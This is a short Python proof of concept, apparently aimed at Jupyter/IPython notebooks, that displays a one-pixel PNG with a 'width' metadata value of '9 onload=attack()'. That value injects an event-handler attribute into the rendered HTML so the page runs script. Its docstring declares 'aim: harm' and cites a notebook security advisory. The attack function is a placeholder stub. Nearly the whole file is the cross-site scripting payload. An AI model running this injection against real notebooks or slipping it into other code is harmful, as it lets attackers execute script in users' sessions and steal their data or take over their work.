"""Says of a picture's width what makes a page run a script.

aim: harm
known: notebooks https://github.com/advisories/GHSA-9jmq-rx5f-8jwq
"""

from IPython.display import display

pixel = "iVBORw0KGgo="
size = {"width": "9 onload=attack()", "height": 9}
display({"image/png": pixel}, metadata={"image/png": size}, raw=True)
